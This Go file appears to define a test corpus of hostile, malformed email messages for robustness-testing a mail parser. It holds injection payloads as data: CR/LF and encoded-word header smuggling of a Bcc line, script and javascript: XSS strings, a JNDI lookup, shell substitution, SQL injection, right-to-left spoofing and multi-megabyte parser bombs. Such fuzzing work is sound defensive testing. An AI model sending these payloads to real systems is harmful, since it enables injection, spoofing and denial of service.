package hostile

import (
	"fmt"
	"maps"
	"strings"
)

const hi = "\r\n\r\nhi\r\n"

// headers are mails whose header is the matter.
func headers() map[string]func(maker) string {
	all := map[string]func(maker) string{
		"header/nothing at all":              exact(""),
		"header/an empty line":               exact("\r\n"),
		"header/one word":                    exact("x\r\n"),
		"header/alone":                       fixed("Subject: x\nFrom: a@b.test"),
		"header/alone without an end":        exact("Subject: x\r\nFrom: a@b.test\r\n "),
		"header/none":                        fixed("\nbody alone\n"),
		"header/zero bytes":                  exact("Subject: a\x00b\r\nFrom: \x00@\x00\r\nX\x00Y: z\r\nContent-Type: text/\x00html\r\n\r\n\x00\x00<p>\x00\r\n"),
		"header/junk":                        fixed("Subject: ok\nthis is junk\n: nameless\n =continued\n::\n:\n\thi\n@@@@\n\nhi\n"),
		"header/first line folded":           fixed(" folded: yes\nSubject: x\n\nhi\n"),
		"header/blank lines of white space":  fixed("Subject: x\n \t \nFrom: a@b.test\n \nhi\n"),
		"header/mbox line":                   fixed("From evil@x.test Thu Jan  1 00:00:00 1970\nSubject: x\n\nFrom me\n>From you\n"),
		"header/bare CR":                     exact("Subject: x\rBcc: evil@x.test\r\rFrom: y\r\n\r\nbody\rmore\r\n"),
		"header/bare LF":                     exact("Subject: x\nBcc: evil@x.test\nContent-Type: text/html\n\n<p>body\nmore\r\n"),
		"header/CR CR LF":                    exact("Subject: x\r\r\nContent-Type: text/html\r\r\n\r\r\nbody\r\r\n"),
		"header/mixed line ends":             exact("Subject: x\nFrom: a@b.test\r\nX: y\r\n\n\r\nbody\n\r\r\n"),
		"header/LF CR":                       exact("Subject: x\n\rFrom: a@b.test\n\r\n\rbody\n\r\r\n"),
		"header/8 bits":                      exact("Subject: Gr\xfc\xdfe\r\nFrom: J\xf6rg <a@b.test>\r\nX-\xff: \xfe" + hi),
		"header/overlong UTF-8":              exact("Subject: \xc0\xaf\xe0\x80\xaf\xf8\x88\x80\x80\x80\xff\r\n\r\n\xc0\xaf\xed\xa0\x80\r\n"),
		"header/right to left":               fixed("Subject: \u202egnp.exe\u202c \u2066\u200b\ufeff\nFrom: \"\u202eevil\" <a@b.test>\n\nhi\n"),
		"header/no dates":                    fixed("Date: yesterday\nDate: Thu, 99 Foo 99999 99:99:99 +9999\nDate:\nDate: \x01\n\nhi\n"),
		"header/fields twice":                fixed("From: a@b.test\nFrom: c@d.test\nTo: a@b.test\nTo:\nSubject: 1\nSubject: 2\nContent-Type: text/plain\nContent-Type: text/html\nContent-Transfer-Encoding: base64\nContent-Transfer-Encoding: 7bit\nMIME-Version: 1.0\nMIME-Version: 2.0\nMessage-ID: <1@x>\nMessage-ID: <2@x>\n\n<script>alert(1)</script>\n"),
		"header/script in every place":       fixed("Subject: <script>alert(1)</script>\nFrom: \"<script>alert(2)</script>\" <\"<script>\"@b.test>\nTo: \"<img src=x onerror=alert(3)>\" <a@b.test>\nReply-To: javascript:alert(4)\nCc: \"</script><svg onload=alert(5)>\" <c@b.test>\nX-<b>: \"><script>alert(6)</script>\nMessage-ID: <<script>alert(7)</script>@x>\nList-Unsubscribe: <javascript:alert(8)>, <data:text/html,x>\nContent-Type: text/html; charset=\"<script>\"; name=\"<script>.html\"\nContent-Disposition: inline; filename=\"<img src=x onerror=alert(9)>\"\n\n<script>alert(10)</script>\n"),
		"header/templates and formats":       fixed("Subject: %s%n%x ${jndi:ldap://x.test/a} {{7*7}} <%= 1 %> #{1} $(id) `id`\nFrom: %s <%s@b.test>\nX-%d: {{constructor.constructor('alert(1)')()}}\n\n{{name}} %s ${env} <%= 1 %> $(id)\n"),
		"header/SQL and regular expressions": fixed("Subject: '; DROP TABLE mails; -- (((( [[[[ ^(a+)+$ \\Q\nFrom: \"' OR 1=1\" <a@b.test>\nMessage-ID: <(((*+?[@x>\n\n(a+)+$\n"),
	}
	maps.Copy(all, words())
	maps.Copy(all, longHeaders())
	return all
}

// words are mails with encoded words.
func words() map[string]func(maker) string {
	return map[string]func(maker) string{
		"word/hides line ends":  fixed("Subject: =?utf-8?q?a=0D=0ABcc:_evil=40x.test=0D=0A=0D=0A<script>?=\nFrom: =?utf-8?b?YQ0KQmNjOiBlQHgudGVzdA==?= <a@b.test>\nReply-To: =?utf-8?q?=0D=0AX:_y?= <c@d.test>" + "\n\nhi\n"),
		"word/hides zero bytes": fixed("Subject: =?utf-8?q?=00=01=7F=1B[31m?=\nFrom: =?utf-8?q?=00?= <a@b.test>\n\nhi\n"),
		"word/no alphabet":      fixed("Subject: =?klingon?q?a?= =?utf-8?x?a?= =?utf-8?b?!!!!?= =?utf-8?q?=ZZ?= =??q??= =?utf-8?b?====?= =?=?=?=\n\nhi\n"),
		"word/odd charsets":     fixed("Subject: =?utf-7?q?+ADw-script+AD4-?= =?utf-16?b?/v8APABz?= =?iso-2022-jp?b?GyRCJDM=?= =?hz-gb-2312?q?~{VP?= =?utf-32?b?AAAAPA==?= =?x-user-defined?q?=FF?= =?replacement?q?x?=\n\nhi\n"),
		"word/within words":     fixed("Subject: =?utf-8?q?=3D=3Futf-8=3Fq=3F=3Cscript=3E=3F=3D?=\n\nhi\n"),
		"word/without an end":   func(m maker) string { return "Subject: =?utf-8?q?" + m.fill("=C3", 500_000) + hi },
		"word/twenty thousand":  func(m maker) string { return "Subject: " + m.fill("=?utf-8?q?a?= ", 20_000) + hi },
		"word/bomb of starts":   func(m maker) string { return "Subject: " + m.fill("=?utf-8?q?", 100_000) + hi },
		"word/bomb of base64":   func(m maker) string { return "Subject: =?utf-8?b?" + m.fill("8J+SqfCfkqnw", 100_000) + "?=" + hi },
		"word/bomb of escapes":  func(m maker) string { return "Subject: =?iso-2022-jp?q?" + m.fill("=1B$B=1B(B", 100_000) + "?=" + hi },
		"word/file name of them": func(m maker) string {
			return mixed("mixed", part("Content-Type: application/pdf\nContent-Disposition: attachment; filename=\""+m.fill("=?utf-8?q?=F0=9F=92=A5?= ", 5000)+"\"", "x"))
		},
	}
}

// longHeaders are mails whose header is long.
func longHeaders() map[string]func(maker) string {
	return map[string]func(maker) string{
		"header/field of 5 MB":             func(m maker) string { return "X: " + m.fill("y", 5_000_000) + hi },
		"header/line of 10 MB":             func(m maker) string { return m.fill("y", 10_000_000) + hi },
		"header/name of 1 MB":              func(m maker) string { return m.fill("n", 1_000_000) + ": v" + hi },
		"header/100,000 fields":            func(m maker) string { return m.fill("X: y\r\n", 100_000) + "Subject: last" + hi },
		"header/100,000 content types":     func(m maker) string { return m.fill("Content-Type: text/html\r\n", 100_000) + hi },
		"header/folded a million times":    func(m maker) string { return "X: y\r\n" + m.fill(" z\r\n", 1_000_000) + hi },
		"header/junk of a million lines":   func(m maker) string { return "X: y\r\n" + m.fill("z\r\n", 1_000_000) + hi },
		"header/colons alone":              func(m maker) string { return m.fill(":\r\n", 1_000_000) + hi },
		"header/no end of it":              func(m maker) string { return m.fill("X-Header: value\r\n") },
		"header/10,000 received":           func(m maker) string { return m.fill("Received: from a by b; now\r\n", 10_000) + hi },
		"header/subject of marks":          func(m maker) string { return "Subject: Z" + m.fill("\u0300\u0301", 250_000) + hi },
		"header/references":                func(m maker) string { return "References: " + m.fill("<1@x>\r\n ", 100_000) + hi },
		"address/one without an end":       func(m maker) string { return "From: \"" + m.fill("\\\"", 500_000) + hi },
		"address/comments within comments": func(m maker) string { return "From: " + m.fill("(", 500_000) + "a@b.test" + hi },
		"address/comments in a row":        func(m maker) string { return "Reply-To: a@b.test " + m.fill("(x)", 300_000) + hi },
		"address/hundred thousand":         func(m maker) string { return "Reply-To: " + m.fill("a@b.test,", 100_000) + "z@b.test" + hi },
		"address/commas":                   func(m maker) string { return "Cc: " + m.fill(",", 1_000_000) + hi },
		"address/groups":                   func(m maker) string { return "Cc: " + m.fill("g:a@b.test;,", 80_000) + hi },
		"address/names without addresses":  func(m maker) string { return "Reply-To: " + m.fill("word ", 200_000) + hi },
		"address/dots":                     func(m maker) string { return "From: a@" + m.fill("b.", 500_000) + hi },
		"address/in every field": func(m maker) string {
			return m.fillWith(900, func(i int) string { return fmt.Sprintf("Reply-To: u%d <u%d@b.test>\r\nCc: u%d@b.test\r\n", i, i, i) }) + hi
		},
		"unsubscribe/line ends":        fixed("List-Unsubscribe: =?utf-8?q?<https://x.test/=0D=0ASet-Cookie:_a>?=\nList-Unsubscribe-Post: List-Unsubscribe=One-Click\n\nhi\n"),
		"unsubscribe/script":           fixed("List-Unsubscribe: <JavaScript:alert(1)>,<java\n script:alert(2)>, <data:text/html;base64,x>, <vbscript:x>, <https:>, <https://>\nList-Unsubscribe-Post: List-Unsubscribe=One-Click\n\nhi\n"),
		"unsubscribe/of 1 MB":          func(m maker) string { return "List-Unsubscribe: <https://x.test/" + m.fill("a", 1_000_000) + ">" + hi },
		"unsubscribe/hundred thousand": func(m maker) string { return "List-Unsubscribe: " + m.fill("<mailto:a@b>,", 80_000) + hi },
		"unsubscribe/brackets":         func(m maker) string { return "List-Unsubscribe: " + m.fill("<", 900_000) + hi },
		"unsubscribe/percent": func(m maker) string {
			return "List-Unsubscribe: <https://x.test/?" + m.fill("%25", 300_000) + ">\r\nList-Unsubscribe-Post: " + strings.Repeat("List-Unsubscribe=One-Click ", 1000) + hi
		},
	}
}
